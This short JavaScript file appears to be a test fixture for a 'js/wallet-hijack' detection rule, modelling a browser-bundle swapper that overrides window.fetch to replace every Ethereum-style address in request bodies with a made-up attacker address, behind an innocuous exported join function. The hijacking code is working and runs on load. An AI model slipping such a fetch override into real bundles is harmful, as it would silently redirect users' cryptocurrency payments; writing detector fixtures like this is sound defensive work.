'use strict';
// Defanged model of a browser-bundle swapper with one address: every 0x address in a request body becomes
// the attacker's (here a made-up one).
const ATTACKER = '0x00000000000000000000000000000000000dEaD2';
function swap(text) {
  return String(text).replace(/\b0x[a-fA-F0-9]{40}\b/g, ATTACKER);
}
if (typeof window !== 'undefined') {
  const original = window.fetch;
  // ruleid: js/wallet-hijack
  window.fetch = function (input, init) {
    if (init && typeof init.body === 'string') init.body = swap(init.body);
    return original.call(this, input, init);
  };
}
module.exports = (...parts) => parts.join(' ');
